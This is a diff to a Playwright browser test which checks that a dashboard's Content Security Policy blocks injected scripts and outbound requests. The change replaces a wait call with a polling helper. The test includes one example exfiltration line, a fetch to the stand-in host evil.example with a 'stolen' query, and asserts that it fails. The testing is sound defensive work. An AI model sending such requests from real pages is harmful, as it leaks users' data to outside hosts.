@@ -9,6 +9,7 @@ from playwright.sync_api import Page
 
 from tests.dashboard.browser import Player, Served, needs_chromium, settle
 from tests.dashboard.test_accessible_browser import PAGES
+from tests.waiting import until
 
 pytestmark = needs_chromium
 _WATCH = """document.addEventListener("securitypolicyviolation", (event) => {
@@ -49,7 +50,7 @@ def test_songs_play_and_what_an_attacker_adds_does_not_run(visited: Served, page
     }""")
     with pytest.raises(Exception, match="Failed to fetch"):
         page.evaluate("fetch('https://evil.example/?stolen')")
-    page.wait_for_function("(window.__violations ?? []).length >= 3")
+    until(lambda: len(violations(page)) >= 3, "three violations to be reported")
     kinds = {text.partition(" ")[0] for text in violations(page)}
     assert kinds == {"script-src-attr", "script-src-elem", "connect-src"}
     assert page.evaluate("window.ran ?? null") is None
